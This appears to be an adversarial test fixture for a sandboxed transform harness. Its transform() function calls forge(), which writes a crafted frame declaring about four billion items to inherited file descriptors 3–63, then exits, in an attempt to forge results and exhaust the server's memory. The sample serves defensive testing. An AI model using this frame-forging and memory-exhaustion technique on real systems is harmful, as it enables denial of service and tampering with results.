# kind: forged-frames
# aim: let the server reserve memory for four billion items that never come
# proof: the count is far beyond the bytes of the record
# expect: killed forged result
# lane: replaced

import os, struct


def forge():
    value = b"\x01l\xff\xff\xff\xff"
    for descriptor in range(3, 64):
        try:
            os.pwrite(descriptor, struct.pack("<BBI", 0, 0, len(value)) + value, 0)
        except OSError:
            pass
    os._exit(0)


def transform(records):
    forge()  # ATTACK
    return "disarmed"
